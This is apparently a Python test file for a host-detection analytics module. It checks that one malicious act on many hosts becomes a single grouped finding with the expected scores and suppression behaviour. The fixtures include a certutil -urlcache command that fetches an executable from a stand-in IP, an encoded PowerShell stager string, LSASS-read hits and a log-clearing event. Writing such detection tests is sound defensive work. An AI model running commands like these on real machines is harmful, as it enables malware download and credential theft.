"""One act on many hosts that no fan-out cluster holds is one host finding listing the hosts (HOSTF2,
analytics.host_finding_groups): 30 hosts running certutil -urlcache for one URL made 30 rows."""

from __future__ import annotations

from analytics.config import DetectionConfig
from analytics.host_finding_groups import group_findings
from analytics.host_finding_words import host_finding_clusters, host_record
from analytics.host_findings import Hit
from tests.analytics.test_host_finding_carry import _Journal

CERTUTIL = r"C:\Windows\System32\certutil.exe"
FETCH = "certutil.exe -urlcache -split -f http://203.0.113.7/a.txt C:\\Users\\Public\\a.exe"
MIMI = r"C:\Users\Public\m.exe"


def _fetch(journal: _Journal, host: str, n: int, command: str = FETCH) -> None:
    journal.add(host, f"c{n}", "sysmon:process_create", 100.0 + n,
                {"process.executable": CERTUTIL, "process.command_line": command, "process.guid": f"g{n}",
                 "process.hash.sha256": "cc" * 32})


def test_thirty_hosts_fetching_one_url_are_one_finding_listing_them_and_a_lone_host_stays_its_own():
    journal = _Journal()
    hosts = [f"ws-{i:02d}" for i in range(30)]
    for n, host in enumerate(hosts):
        _fetch(journal, host, n)
    _fetch(journal, "ws-99", 99, FETCH.replace("a.txt", "other.txt"))  # another URL on one host
    journal.add("ws-03", "clr", "windows:log_cleared", 500.0, {"event.code": "1102", "event.channel": "Security"})
    found, stats = host_finding_clusters(journal, DetectionConfig(), (0.0, 10_000.0))
    assert stats["host_findings"] == 3
    campaign = next(c for c in found if len(c.hosts) > 1)
    assert campaign.hosts == hosts and campaign.host_finding["hosts"] == hosts
    assert campaign.score == 74.0  # lolbin_download 70, +4 for 16 hosts or more
    assert campaign.host_finding["hits_total"] == 30 and {h["host"] for h in campaign.host_finding["hits"]} == set(hosts)
    assert campaign.explanation.summary.startswith("Host finding on 30 hosts (ws-00, ws-01, ws-02, ws-03, ws-04, ...)")
    # the others as before: one host each, at the rule's own risk (the cleared log stays ws-03's own case)
    assert sorted((c.hosts, c.score) for c in found if c is not campaign) == [(["ws-03"], 85.0), (["ws-99"], 70.0)]


def _hit(host: str, rule: str, command: str, digest: str = "") -> Hit:
    return Hit(host, rule, 1.0, f"e-{host}-{rule}", MIMI, command, f"{MIMI.lower()}|{command}", "matched", digest=digest)


def test_one_build_under_other_names_is_one_act_and_acts_on_the_same_hosts_are_one_finding():
    hosts = ["a", "b", "c"]
    hits = [_hit(h, "lsass_read", f"m{h}.exe", digest="dd" * 32) for h in hosts]  # one build, a name per host
    hits += [_hit(h, "script_stager", "powershell -enc aaaa") for h in hosts[:2]]
    hits += [_hit("c", "lsass_read", "other.exe", digest="ee" * 32)]  # another build: c's own
    findings = group_findings(hits)
    assert [(f.hosts, f.rules, f.risk) for f in findings] == [
        (["a", "b", "c"], ["lsass_read", "script_stager"], 91.0), (["c"], ["lsass_read"], 90.0)]
    record = host_record(findings[0])
    assert record["host"] == "a" and record["hosts"] == hosts


def test_a_two_host_act_groups_a_one_host_act_does_not():
    assert [f.hosts for f in group_findings([_hit("a", "lolbin_download", "x"), _hit("b", "lolbin_download", "x")])] == [
        ["a", "b"]]
    assert [f.hosts for f in group_findings([_hit("a", "lolbin_download", "x"), _hit("b", "lolbin_download", "y")])] == [
        ["a"], ["b"]]


def test_a_verdict_on_one_hosts_download_does_not_hide_it_on_thirty_and_one_on_the_group_does():
    from analytics.host_finding_words import verdict_scope

    journal = _Journal()
    hosts = [f"ws-{i:02d}" for i in range(30)]
    for n, host in enumerate(hosts):
        _fetch(journal, host, n)

    def shown(members: set) -> list[list[str]]:
        config = DetectionConfig(suppressed=frozenset({("host", "ws-00")}), suppressed_members={("host", "ws-00"): frozenset(members)})
        return [c.hosts for c in host_finding_clusters(journal, config, (0.0, 10_000.0))[0]]

    [campaign] = host_finding_clusters(journal, DetectionConfig(), (0.0, 10_000.0))[0]
    judged = set(verdict_scope(campaign.host_finding))
    assert shown({("host", "ws-00"), *judged}) == [hosts]  # judged on ws-00 alone, before the grouping
    assert shown({*(("host", h) for h in hosts), *judged}) == []  # the group's own verdict
